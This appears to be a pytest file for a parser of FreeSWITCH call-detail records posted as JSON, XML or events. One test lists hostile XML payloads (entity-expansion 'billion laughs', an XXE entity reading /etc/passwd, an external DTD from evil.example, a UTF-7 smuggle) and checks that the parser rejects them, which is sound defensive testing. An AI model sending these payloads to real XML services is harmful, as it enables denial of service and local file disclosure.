"""What mod_json_cdr and mod_xml_cdr post, in every wrapping, and the same leg as an event (inputs 2.1, 2.2, 2.4)."""

import json
from dataclasses import replace
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.formats.cdr import calls_of, ids_of, joined
from adapters.formats.cdr.freeswitch import for_another
from adapters.formats.cdr.freeswitch_post import bare_of, is_xml, key_of, leg_of_post
from routing.papers import Call, Unreadable
from tests.conftest import shared
from tests.freeswitch import JSON_POSTS, XML_POSTS, caller_leg, seat_leg, uuid

SHANGHAI = ZoneInfo("Asia/Shanghai")


def read(body: bytes) -> Call:
    return leg_of_post(body, "freeswitch:f1", SHANGHAI)


def told(call: Call) -> tuple:
    """What a call says, without the rows it says it from."""
    return replace(call, raw=())


@pytest.mark.parametrize("setting", JSON_POSTS)
def test_every_encode_of_mod_json_cdr_is_the_same_call(setting: str):
    body = JSON_POSTS[setting][0](caller_leg().json())
    call = read(body)
    assert (call.ani, call.hotline, call.result, call.talk_s, call.hangup_side) == ("13800000001", "95580", "answered", 58, "caller")
    assert call == read(caller_leg().json(encoded=False).encode())
    assert call.recording == "/recordings/20260302/a"       # record_session's first word
    assert call.remark == "投诉 100% +86"


@pytest.mark.parametrize("setting", XML_POSTS)
def test_every_encode_of_mod_xml_cdr_is_the_call_of_the_json(setting: str):
    body = XML_POSTS[setting][0](caller_leg().xml())
    assert read(body) == read(caller_leg().json().encode())
    assert is_xml(bare_of(body))


@pytest.mark.parametrize("leg", [caller_leg(), seat_leg(), caller_leg(answer_epoch="0", hangup_cause="ORIGINATOR_CANCEL", billsec="0", bridge_uuid="")])
@pytest.mark.parametrize("encoded", [True, False])
def test_xml_and_json_of_a_leg_are_one_row(leg, encoded: bool):
    assert read(leg.xml(encoded=encoded).encode()) == read(leg.json(encoded=encoded).encode())


@pytest.mark.parametrize("leg", [caller_leg(), seat_leg()])
def test_the_event_tells_the_same_call_as_the_post(leg):
    by_event, by_post = read(leg.event()), read(leg.json().encode())
    assert told(by_event) == replace(told(by_post), recording=by_event.recording)      # app_log is not in the event
    both = joined([by_event, by_post])
    assert replace(told(both), leg=by_post.leg) == told(by_post)


def test_both_legs_from_three_sources_are_one_call():
    a, b = caller_leg(), seat_leg()
    legs = [read(body) for body in (b.event(), a.xml().encode(), a.event(), b.json().encode(), a.json().encode())]
    call = joined(legs)
    assert (call.call_id, call.agent_no, call.talk_s, call.result, call.leg) == (uuid(1), "8001", 50, "answered", "a,b")
    assert ids_of(call) == {uuid(1), uuid(1, "b")}
    assert told(call) == told(joined(legs[::-1]))


def test_after_a_transfer_the_event_does_not_name_the_seat_as_the_hotline():
    moved = replace(caller_leg(transfer_history="1772413230:x:bl_xfer:8002/default/XML"), dialled="8002")
    assert read(moved.event()).hotline == "95580"


def test_whose_leg_it_is():
    assert [for_another(read(leg.json().encode())) for leg in (caller_leg(), seat_leg())] == [False, True]


def test_the_key_is_that_of_the_leg_however_it_was_wrapped_and_wherever_it_lay():
    text = caller_leg().json()
    keys = {key_of(bare_of(wrap(text))) for wrap, _ in JSON_POSTS.values()} | {key_of(bare_of(text.encode() + b"\n"))}
    assert len(keys) == 1
    assert key_of(bare_of(seat_leg().json().encode())) not in keys


LAUGHS = '<?xml version="1.0"?><!DOCTYPE cdr [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><cdr><variables><uuid>&b;</uuid></variables></cdr>'


@pytest.mark.parametrize("body", [
    LAUGHS.encode(),
    b'<?xml version="1.0"?><!DOCTYPE cdr [<!ENTITY x SYSTEM "file:///etc/passwd">]><cdr><variables><uuid>&x;</uuid></variables></cdr>',
    b'<!DOCTYPE cdr SYSTEM "http://evil.example/x.dtd"><cdr/>',
    "cdr=" + LAUGHS,
    LAUGHS.replace('1.0"?', '1.0" encoding="utf-16"?').encode("utf-16"),
    b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE cdr+AD4APA-cdr/+AD4-',
    b"<cdr><variables><uuid>&x;</uuid></variables></cdr>",
    b"<cdr>" + b"<a>" * 40 + b"</a>" * 40 + b"</cdr>",
    b"<a>" * 100_000,
    b"<cdr core-uuid='x'><variables><uuid>a",
    b"<html><body>502 Bad Gateway</body></html>",
    b"<cdr/>",
    b"<cdr><variables><billsec>1</billsec></variables></cdr>",
    b"<cdr><variables>" + b"<x>y</x>" * 200_000 + b"</variables></cdr>",
])
def test_xml_that_is_no_record_or_an_attack_is_unreadable(body):
    with pytest.raises(Unreadable):
        read(body if isinstance(body, bytes) else body.encode())


@pytest.mark.parametrize(("body", "said"), [
    (b"", "empty"), (b"cdr=", "empty"), (b"hello", "neither JSON nor XML"), (b"cdr=AAAA", "neither JSON nor XML"), (b"\xff\xfe\x00", "neither"),
    (b"{", "no JSON"), (b"{}", "no record of mod_json_cdr"), (b"[" * 9000, "neither"), (b'{"a":' * 9000, "no JSON"), (b'{"variables":{"a":1},"callflow":[]}', "no uuid"),
    (json.dumps({"variables": {"uuid": "x", "billsec": "soon"}, "callflow": []}).encode(), "billsec"),
    (b"Event-Name: CHANNEL_CREATE\n\n", "no CHANNEL_HANGUP_COMPLETE"), (b"Event-Name: X\nno colon here\n\n", "without a colon"),
    (caller_leg().json().encode()[:-40], "no JSON"), (caller_leg().xml().encode()[:-40], "no XML"),
])
def test_what_makes_no_sense_says_why(body: bytes, said: str):
    with pytest.raises(Unreadable, match=said):
        read(body)


def test_a_reason_shows_nothing_of_a_customer():
    """P-6."""
    with pytest.raises(Unreadable) as error:
        read(caller_leg().xml().replace("</variables>", "</varables>").encode())
    assert "13800000001" not in str(error.value)


def test_a_name_in_gbk_and_a_control_character_are_read():
    leg = replace(caller_leg(), caller="13800000001")
    raw = leg.xml(encoded=False).encode("gb18030").replace(b"9.0", b"9.0\x01")
    assert read(raw).ani == "13800000001"
    assert "王" in read(raw).raw[0]["caller_id"]


@given(st.binary(max_size=200) | st.sampled_from([caller_leg().xml().encode(), caller_leg().json().encode(), caller_leg().event()]).flatmap(
    lambda body: st.tuples(st.integers(0, len(body)), st.integers(0, len(body)), st.binary(max_size=4)).map(lambda cut: body[:cut[0]] + cut[2] + body[cut[1]:])))
def test_whatever_comes_is_read_or_unreadable(body: bytes):
    try:
        call = read(body)
    except Unreadable:
        return
    assert call.call_id


def test_other_peoples_samples_tell_the_same_by_post_and_by_event():
    folder = shared() / "data" / "cdr"
    post, event = (read((folder / name).read_bytes()) for name in ("cgrates-agents-fsevent_test-4.json", "cgrates-agents-fsevent_test-5.esl.txt"))
    assert (post.call_id, post.ani, post.hotline, post.t_start, post.talk_s) == (event.call_id, event.ani, event.hotline, event.t_start, event.talk_s)
    assert joined([post, event]).talk_s == post.talk_s
    for name in ("cgrates-engine-fscdr_test-0.json", "cgrates-engine-fscdr_test-3.json"):
        body = (folder / name).read_bytes()
        assert read(body) == calls_of(body, "freeswitch:f1", SHANGHAI).calls[0]
